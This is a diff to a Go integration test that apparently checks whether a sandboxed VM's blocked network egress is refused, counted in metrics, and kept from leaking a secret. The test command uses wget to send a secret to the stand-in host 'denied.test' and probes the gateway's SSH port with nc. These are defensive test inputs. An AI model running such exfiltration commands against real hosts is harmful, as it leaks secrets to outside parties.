@@ -21,7 +21,7 @@ func TestWhatIsRefusedIsTold(t *testing.T) {
 	c := connect(t)
 	b := on(node1, c.Namespace(t), "refused", "refused")
 	c.Apply(t, b)
-	c.WaitRuns(t, b)
+	c.WaitRunning(t, b)
 	const secret = "s3cr3t-in-a-path-77a1"
 	c.TryExec(t, node1, "smolvm", "machine", "exec", "--name", story.ID(b), "--",
 		"sh", "-c", "wget -qO- http://denied.test/"+secret+"?q="+secret+"; nc -w 1 "+b.Status.Network.Gateway+" 22 </dev/null; true")
@@ -40,5 +40,5 @@ func TestWhatIsRefusedIsTold(t *testing.T) {
 	if i := strings.Index(metrics, want); i < 0 || strings.HasPrefix(metrics[i+len(want):], "0\n") {
 		t.Errorf("metrics: got no %s above 0", want)
 	}
-	c.SecretNowhereIn(t, b, secret)
+	c.WantNotExposed(t, b, secret)
 }
